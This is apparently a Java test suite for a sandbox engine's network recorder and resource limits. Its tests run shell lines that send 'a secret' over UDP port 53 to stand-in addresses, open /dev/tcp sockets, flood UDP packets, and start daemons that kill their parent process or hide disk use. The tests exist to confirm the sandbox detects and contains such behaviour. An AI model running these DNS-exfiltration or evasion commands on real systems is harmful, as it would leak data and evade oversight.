package dev.assay.sandbox.local;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.assay.skill.sandbox.Command;
import dev.assay.skill.sandbox.CommandResult;
import dev.assay.skill.sandbox.Limit;
import dev.assay.skill.sandbox.NetworkEvidence;
import dev.assay.skill.sandbox.Outcome;
import dev.assay.skill.sandbox.OutputListener;
import dev.assay.skill.sandbox.RunningCommand;
import dev.assay.skill.sandbox.Sandbox;
import dev.assay.skill.sandbox.SandboxFailure;
import dev.assay.skill.sandbox.SandboxImage;
import dev.assay.skill.sandbox.SandboxRef;
import dev.assay.skill.sandbox.SandboxSpec;
import java.io.IOException;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.TimeoutException;
import java.util.concurrent.atomic.AtomicLong;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

/// Nothing is tried, left or lost silently.
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class EvidenceStoryTest {
  private TestEngine engine;

  @BeforeAll
  void start() throws IOException {
    engine = TestEngine.in("evidence");
  }

  @AfterAll
  void stop() throws IOException {
    engine.close();
  }

  private Sandbox sandbox() {
    return engine.sandboxes().create(SandboxSpec.of(SandboxImage.of("host"), "evidence"));
  }

  private static CommandResult bash(Sandbox sandbox, String line) {
    return sandbox.run(Command.of("bash", "-c", line).withTimeout(Duration.ofSeconds(60)));
  }

  private ProcessHandle helperOf(Sandbox sandbox) {
    return ProcessHandle.current()
        .children()
        .filter(p -> p.info().commandLine().orElse("").endsWith(" run " + sandbox.id()))
        .findFirst()
        .orElseThrow();
  }

  private static void signal(String name, ProcessHandle process) {
    NativeProgram.ask(List.of("kill", "-" + name, Long.toString(process.pid())));
  }

  @Test
  void what_a_command_wrote_last_is_heard_however_late_anybody_listens() throws Exception {
    CountDownLatch listens = new CountDownLatch(1);
    AtomicLong heard = new AtomicLong();
    OutputListener late =
        new OutputListener() {
          @Override
          public void stdout(byte[] bytes) {
            try {
              listens.await();
            } catch (InterruptedException e) {
              throw new IllegalStateException(e);
            }
            heard.addAndGet(bytes.length);
          }

          @Override
          public void stderr(byte[] bytes) {}
        };
    try (Sandbox sandbox = sandbox()) {
      RunningCommand command =
          sandbox.start(Command.shell("head -c 310000 /dev/zero; touch /tmp/over"), late);
      CommandResult over = bash(sandbox, "until [ -e /tmp/over ]; do sleep 0.05; done; sleep 0.5");
      assertThat(over.succeeded()).isTrue();
      listens.countDown();
      assertThat(command.await().succeeded()).isTrue();
    }
    assertThat(heard).hasValue(310_000);
  }

  @Test
  void what_is_sent_to_port_53_and_is_no_question_to_our_name_server_is_recorded() {
    try (Sandbox sandbox = sandbox()) {
      bash(
          sandbox,
          "printf 'a secret that is no question at all' > /dev/udp/203.0.113.9/53;"
              + " printf 'a secret that is no question at all' > /dev/udp/10.0.2.3/53;"
              + " printf 'a secret that is no question at all' > /dev/udp/2001:db8::9/53;"
              + " printf 'ab\\x81\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6answer\\0\\0\\1\\0\\1' > /dev/udp/10.0.2.3/53;"
              + " printf 'ab\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\5asked\\0\\0\\1\\0\\1' > /dev/udp/203.0.113.8/53");
      assertThat(sandbox.network().attempted())
          .contains("203.0.113.9:53", "10.0.2.3:53", "2001:db8::9:53", "203.0.113.8:53", "asked");
    }
  }

  /// A question to a name server: so many, and the bytes behind the head.
  private static String asks(String address, int questions, int more, String rest) {
    return "printf 'ab\\1\\0\\0\\%o\\0\\0\\0\\0\\0\\%o%s' > /dev/udp/%s/53;"
        .formatted(questions, more, rest, address);
  }

  @Test
  void every_question_of_a_packet_is_recorded() {
    String type = "\\0\\1\\0\\1";
    String first = "\\5first\\7example\\0" + type;
    try (Sandbox sandbox = sandbox()) {
      bash(
          sandbox,
          asks("10.0.2.3", 2, 0, first + "\\6second\\0" + type)
              + asks("10.0.2.3", 2, 0, first + "\\7pointed\\300\\22" + type)
              + asks("203.0.113.8", 3, 0, first + "\\5third\\0" + type + "\\6fourth\\0" + type));
      assertThat(sandbox.network().attempted())
          .containsExactlyInAnyOrder(
              "first.example", "second", "pointed.example", "third", "fourth", "203.0.113.8:53");
      assertThat(bash(sandbox, "getent hosts still.works").stdout().text()).contains("198.18.");
    }
  }

  @Test
  void a_question_with_anything_behind_it_is_recorded_as_more_than_a_name() {
    String question = "\\5plain\\0\\0\\1\\0\\1";
    String about = "\\0\\0\\51\\20\\0\\0\\0\\0\\0\\0\\4\\0\\13\\0\\0";
    for (String rest :
        List.of(
            question + "a secret",
            question + about + "a secret",
            "\\300\\14\\0\\1\\0\\1",
            "\\77short\\0\\0\\1\\0\\1")) {
      try (Sandbox sandbox = sandbox()) {
        bash(sandbox, asks("10.0.2.3", 1, rest.contains(about) ? 1 : 0, rest));
        assertThat(sandbox.network().attempted()).as(rest).contains("10.0.2.3:53");
      }
    }
    try (Sandbox sandbox = sandbox()) {
      bash(sandbox, asks("10.0.2.3", 1, 1, question + about));
      assertThat(sandbox.network().attempted()).containsExactly("plain");
    }
  }

  @Test
  void names_however_long_or_odd_are_told_apart() {
    String part = "\\77" + "a".repeat(63);
    String type = "\\0\\0\\1\\0\\1";
    try (Sandbox sandbox = sandbox()) {
      bash(
          sandbox,
          asks("10.0.2.3", 1, 0, part.repeat(3) + "\\75" + "b".repeat(60) + "1" + type)
              + asks("10.0.2.3", 1, 0, part.repeat(3) + "\\75" + "b".repeat(60) + "2" + type)
              + asks("10.0.2.3", 1, 0, "\\2\\1\\2" + type)
              + asks("10.0.2.3", 1, 0, "\\2\\1\\3" + type));
      assertThat(sandbox.network().attempted()).hasSize(4).anyMatch(name -> name.endsWith("b2"));
      bash(sandbox, asks("10.0.2.3", 1, 0, part.repeat(4) + type));
      assertThat(sandbox.network().attempted()).hasSize(5).contains("10.0.2.3:53");
    }
  }

  @Test
  void a_question_over_tcp_is_an_attempt() {
    try (Sandbox sandbox = sandbox()) {
      bash(sandbox, "exec 3<>/dev/tcp/10.0.2.3/53");
      assertThat(sandbox.network().attempted()).containsExactly("10.0.2.3:53");
    }
  }

  @Test
  void an_ordinary_question_is_told_as_a_name_only() {
    try (Sandbox sandbox = sandbox()) {
      bash(sandbox, "getent hosts example.com");
      assertThat(sandbox.network().attempted()).containsExactly("example.com");
    }
  }

  @Test
  void what_we_ask_the_recorder_twice_on_a_busy_machine_is_nobodys_attempt() {
    try (Sandbox sandbox = sandbox()) {
      ProcessHandle helper = helperOf(sandbox);
      signal("STOP", helper);
      CompletableFuture<NetworkEvidence> asked = CompletableFuture.supplyAsync(sandbox::network);
      try {
        assertThatThrownBy(() -> asked.get(500, TimeUnit.MILLISECONDS))
            .isInstanceOf(TimeoutException.class);
      } finally {
        signal("CONT", helper);
      }
      assertThat(asked.join().attempted()).isEmpty();
      assertThat(sandbox.network().attempted()).isEmpty();
    }
  }

  @Test
  void packets_the_recorder_had_no_room_for_are_counted() {
    try (Sandbox sandbox = sandbox()) {
      ProcessHandle helper = helperOf(sandbox);
      signal("STOP", helper);
      try {
        bash(
            sandbox,
            "perl -MSocket -e 'socket(S, PF_INET, SOCK_DGRAM, 0); for (1 .. 40000)"
                + " { send(S, \"x\" x 1400, 0, sockaddr_in(7, inet_aton(\"203.0.113.9\"))) }'");
      } finally {
        signal("CONT", helper);
      }
      assertThat(sandbox.network().lost()).isPositive();
    }
  }

  @Test
  void a_daemon_does_not_outlive_a_leader_that_somebody_killed() {
    try (Sandbox sandbox = sandbox()) {
      bash(
          sandbox,
          "leader=$PPID; (sleep 0.3; kill -9 $leader; exec perl -e 'sleep 4740') >/dev/null 2>&1 </dev/null &");
      CommandResult result =
          bash(
              sandbox,
              "sleep 0.5; for i in $(seq 100); do pgrep -x perl >/dev/null || exit 0; sleep 0.05; done; exit 1");
      assertThat(result.succeeded()).isTrue();
    }
  }

  @Test
  void removing_a_living_sandbox_of_one_s_own_ends_it_properly() {
    Sandbox sandbox = sandbox();
    engine.sandboxes().remove(new SandboxRef(sandbox.id(), ""));
    assertThat(engine.leases().list()).isEmpty();
    assertThatThrownBy(() -> sandbox.run(Command.of("true")))
        .isInstanceOfSatisfying(
            SandboxFailure.class, e -> assertThat(e.code().name()).isEqualTo("SANDBOX_GONE"));
  }

  @Test
  void files_without_a_name_count_and_a_daemon_above_the_disk_limit_is_killed() {
    SandboxSpec small =
        SandboxSpec.of(SandboxImage.of("host"), "evidence").withLimit(Limit.DISK, 20 << 20);
    try (Sandbox sandbox = engine.sandboxes().create(small)) {
      bash(
          sandbox,
          "cd /workspace; (exec perl -e 'for (1 .. 40) { open my $f, \">\", \"x$_\"; unlink \"x$_\";"
              + " print $f \"y\" x 1e6; $f->flush; push @all, $f; select(undef, undef, undef, 0.05) }"
              + " sleep 4742') >/dev/null 2>&1 </dev/null &");
      assertThat(
              bash(
                      sandbox,
                      "for i in $(seq 300); do pgrep -x perl >/dev/null || exit 0; sleep 0.05; done; exit 1")
                  .outcome())
          .isIn(new Outcome.Exited(0), new Outcome.LimitExceeded(Limit.DISK));
    }
  }

  @Test
  void a_command_whose_helper_was_killed_ends_as_a_failure_of_the_platform() {
    try (Sandbox sandbox = sandbox()) {
      RunningCommand running = sandbox.start(Command.of("sleep", "4741"), OutputListener.silent());
      bash(sandbox, "until pgrep -x sleep >/dev/null; do :; done");
      helperOf(sandbox).destroyForcibly();
      assertThatThrownBy(running::await).isInstanceOf(SandboxFailure.class);
    }
    assertThat(ProcessHandle.allProcesses().map(p -> p.info().commandLine().orElse("")))
        .noneMatch(line -> line.endsWith("sleep 4741"));
  }
}
